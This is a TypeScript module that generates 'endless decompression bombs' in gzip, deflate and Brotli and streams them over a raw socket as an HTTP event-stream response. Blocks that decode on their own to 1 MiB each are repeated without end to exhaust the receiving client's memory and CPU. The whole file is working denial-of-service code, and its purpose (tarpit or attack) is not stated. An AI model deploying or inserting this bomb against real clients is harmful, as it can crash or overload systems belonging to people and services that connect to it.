/** Endless decompression bombs: compressed blocks that can be repeated forever, because each decodes on its own. */

import { constants, createBrotliCompress, deflateRawSync } from 'node:zlib'
import type { Socket } from 'node:net'
import { head, pour } from './responses.ts'

export const ENCODINGS = ['gzip', 'deflate', 'br'] as const
type Encoding = (typeof ENCODINGS)[number]

interface Bomb {
  start: Buffer
  /** Decompresses to 1 MiB. */
  again: Buffer
}

const MIB = 2 ** 20

/** Headers before the deflated data. */
const DEFLATE_HEADS = { gzip: Buffer.from('1f8b0800000000000003', 'hex'), deflate: Buffer.from('789c', 'hex') }

const made = new Map<string, Promise<Bomb>>()

/** Sends a text, then an endless filling, both compressed. */
export async function sendBomb(
  socket: Socket,
  { encoding, text, filling, status = 200 }: { encoding: Encoding; text: string; filling: string; status?: number },
): Promise<void> {
  const key = `${encoding} ${text} ${filling}`
  const { start, again } = await (made.get(key) ??
    remember(key, make(encoding, text, filling.repeat(MIB / filling.length))))
  socket.write(head(status, ['Content-Type: text/event-stream', `Content-Encoding: ${encoding}`, 'Connection: close']))
  socket.write(start)
  pour(socket, Buffer.concat(Array.from({ length: 16 }, () => again)))
}

function remember(key: string, bomb: Promise<Bomb>): Promise<Bomb> {
  made.set(key, bomb)
  return bomb
}

async function make(encoding: Encoding, text: string, filling: string): Promise<Bomb> {
  if (encoding !== 'br') {
    const deflated = (text: string): Buffer => deflateRawSync(text, { finishFlush: constants.Z_FULL_FLUSH })
    return { start: Buffer.concat([DEFLATE_HEADS[encoding], deflated(text)]), again: deflated(filling) }
  }
  // A Brotli block refers to earlier ones; after a few equal blocks, all are alike.
  const stream = createBrotliCompress({ params: { [constants.BROTLI_PARAM_QUALITY]: 5 } })
  const blocks: Buffer[] = []
  for (const block of [text, filling, filling, filling]) {
    stream.write(block)
    const flushed = new Promise<void>((resolve) => {
      stream.flush(constants.BROTLI_OPERATION_FLUSH, resolve)
    })
    const parts: Buffer[] = []
    const take = (part: Buffer): void => void parts.push(part)
    stream.on('data', take)
    await flushed
    stream.off('data', take)
    blocks.push(Buffer.concat(parts))
  }
  stream.destroy()
  return { start: Buffer.concat(blocks.slice(0, 3)), again: Buffer.concat(blocks.slice(3)) }
}
